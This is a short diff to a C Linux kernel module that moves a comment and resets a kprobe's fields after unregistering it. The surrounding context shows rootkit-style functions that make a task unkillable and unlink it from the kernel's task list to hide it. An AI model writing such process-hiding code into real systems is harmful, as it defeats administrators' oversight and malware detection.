@@ -902,7 +902,6 @@ static int set_private_flag(struct task_struct *task, size_t field)
 
 /* === Hiding ============================================================= */
 
-/* Unlinked as rootkits do: it may be unlinked once more */
 /* To send it a signal, even that one, has no effect any more. */
 static int become_unkillable(struct task_struct *task, size_t field)
 {
@@ -915,6 +914,7 @@ static int become_unkillable(struct task_struct *task, size_t field)
 	return clear_word(task, field);
 }
 
+/* Unlinked as rootkits do: it may be unlinked once more */
 static int hide_from_tasks(struct task_struct *task, size_t field)
 {
 	struct list_head *const entry = &task->group_leader->tasks;
@@ -3778,6 +3778,8 @@ static int lead_cores(struct task_struct *task, size_t begin)
 	if (begin)
 		return register_kprobe(&core_probe);
 	unregister_kprobe(&core_probe);
+	core_probe.addr = NULL;
+	core_probe.flags = 0;
 	return 0;
 }
 #else
